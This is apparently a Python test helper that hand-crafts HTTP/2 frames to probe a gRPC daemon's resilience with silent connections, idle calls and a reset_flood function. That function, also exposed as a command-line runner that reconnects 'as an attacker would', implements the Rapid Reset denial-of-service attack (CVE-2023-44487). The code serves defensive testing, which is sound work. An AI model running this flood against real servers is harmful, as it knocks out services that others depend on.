"""HTTP/2 spoken by hand over a socket, for tests that must do what no gRPC client does: connect
and say nothing, make one call and then idle, or reset streams as fast as they open them. Frames
are RFC 9113's; header blocks are HPACK literals (RFC 7541 6.2.2: never indexed, no Huffman), so
that no state is kept between them."""
import select
import socket
import ssl
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET_STATUS = "/metaload.v1.Metad/GetStatus"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# The client preface and an empty SETTINGS frame: to gRPC, a client that connected.
CLIENT_PREFACE = PREFACE + frame(SETTINGS, 0, 0)


def hpack_string(data):
    assert len(data) < 127
    return bytes([len(data)]) + data


def headers_block(path, authority="localhost", extra=()):
    block = b""
    for name, value in ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
                        ("content-type", "application/grpc"), ("te", "trailers"), *extra):
        block += b"\x10" + hpack_string(name.encode()) + hpack_string(value.encode())
    return block


def grpc_message(payload=b""):
    """A gRPC length-prefixed message, uncompressed (an empty one is an empty protobuf)."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def bearer(token):
    return (("authorization", f"Bearer {token}"),) if token else ()


class Connection:
    """One HTTP/2 connection from `source` (a loopback address of this host) to `address`; its
    client preface is sent on connecting. `tls_context` wraps it in TLS first."""

    def __init__(self, address, source="127.0.0.1", tls_context=None):
        host, port = address.rsplit(":", 1)
        self.sock = socket.socket()
        self.sock.bind((source, 0))
        self.sock.settimeout(10)
        self.sock.connect((host, int(port)))
        if tls_context is not None:
            self.sock = tls_context.wrap_socket(self.sock, server_hostname="localhost")
        self.sock.sendall(CLIENT_PREFACE)
        self.buffer = b""
        self.next_stream = 1
        self.closed = False

    def _fill(self, deadline):
        """Reads what the daemon sent by `deadline`; False on a timeout. Sets `closed` on EOF."""
        left = deadline - time.monotonic()
        if left <= 0:
            return False
        self.sock.settimeout(left)
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            return False
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError):  # closed (under TLS, unclean too)
            data = b""
        if not data:
            self.closed = True
            return False
        self.buffer += data
        return True

    def _frames(self):
        """The whole frames read so far (kind, flags, stream, payload), answering SETTINGS and
        PING as a client must."""
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            yield kind, flags, stream, payload

    def send(self, data):
        try:
            self.sock.sendall(data)
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
            self.closed = True

    def answered(self, timeout=10.0):
        """"open" when the daemon sends its SETTINGS, "closed" when it closes the connection."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            for kind, _, _, _ in self._frames():
                if kind == SETTINGS:
                    return "open"
            if not self._fill(deadline) and not self.closed:
                return "silent"
        return "closed"

    def call(self, path=GET_STATUS, token=None, timeout=10.0):
        """Makes one unary call with an empty request; True once the daemon ended it (its
        trailers, whatever the status), False if it closed the connection or said nothing."""
        stream = self.next_stream
        self.next_stream += 2
        self.send(frame(HEADERS, END_HEADERS, stream, headers_block(path, extra=bearer(token))) +
                  frame(DATA, END_STREAM, stream, grpc_message()))
        deadline = time.monotonic() + timeout
        while not self.closed:
            for kind, flags, on_stream, _ in self._frames():
                if on_stream == stream and ((kind == HEADERS and flags & END_STREAM) or kind == RST_STREAM):
                    return True
            if not self._fill(deadline) and not self.closed:
                return False
        return False

    def closed_within(self, timeout):
        """Whether the daemon closes the connection within `timeout` s (frames read meanwhile are
        answered and dropped)."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            list(self._frames())
            if not self._fill(deadline) and not self.closed:
                return False
        return True

    def drain(self):
        """Reads and answers what the daemon has sent, without waiting."""
        while not self.closed and select.select([self.sock], [], [], 0)[0]:
            self._fill(time.monotonic() + 0.1)
            list(self._frames())

    def close(self):
        self.sock.close()


def reset_flood(conn, seconds, token=None, batch=64):
    """Opens streams and resets each at once (HEADERS then RST_STREAM CANCEL: the HTTP/2 rapid
    reset attack, CVE-2023-44487) for `seconds` or until the daemon closes the connection, while
    a thread reads and drops what the daemon sends (answering nothing: only this thread writes).
    Plaintext only. Returns (pairs sent, seconds until the daemon closed the connection or
    None)."""
    stop = threading.Event()
    start = time.monotonic()
    closed_at = []

    def read():
        while not stop.is_set() and not conn.closed:
            if select.select([conn.sock], [], [], 0.2)[0]:
                try:
                    data = conn.sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    closed_at.append(time.monotonic() - start)
                    conn.closed = True

    # Non-blocking: a daemon that stops reading (it shut the connection down) must not hold the
    # sender in a send it would never finish.
    conn.sock.setblocking(False)
    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    block = headers_block(GET_STATUS, extra=bearer(token))
    pairs = 0
    while time.monotonic() - start < seconds and not conn.closed:
        data = b""
        for _ in range(batch):
            stream = conn.next_stream
            conn.next_stream += 2
            data += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        view = memoryview(data)
        while view and not conn.closed and time.monotonic() - start < seconds:
            if not select.select([], [conn.sock], [], 0.2)[1]:
                continue
            try:
                view = view[conn.sock.send(view):]
            except BlockingIOError:
                continue
            except OSError:  # reset
                closed_at.append(time.monotonic() - start)
                conn.closed = True
        if not view:
            pairs += batch
    stop.set()
    reader.join()
    return pairs, (closed_at[0] if closed_at else None)


if __name__ == "__main__":
    # `python h2_raw.py ADDRESS SOURCE SECONDS`: unauthenticated reset floods from SOURCE for
    # SECONDS, a new connection each time the daemon closes one (as an attacker would), in a
    # process of its own, so that a test timing a legitimate call meanwhile shares no interpreter
    # lock with the floods' loop. Prints {"pairs": …, "closed_after": [seconds, one per
    # connection the daemon closed], "sent_bytes": [bytes sent on each such connection]}.
    import json
    import sys

    address, source, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    start = time.monotonic()
    pair_bytes = len(frame(HEADERS, END_HEADERS, 1, headers_block(GET_STATUS))) + len(frame(RST_STREAM, 0, 1, bytes(4)))
    pairs, closed_after, sent_bytes = 0, [], []
    while (left := seconds - (time.monotonic() - start)) > 0.05:
        conn = Connection(address, source=source)
        sent, closed = reset_flood(conn, left)
        conn.close()
        pairs += sent
        if closed is not None:
            closed_after.append(closed)
            sent_bytes.append(len(CLIENT_PREFACE) + sent * pair_bytes)
    print(json.dumps({"pairs": pairs, "closed_after": closed_after, "sent_bytes": sent_bytes}))
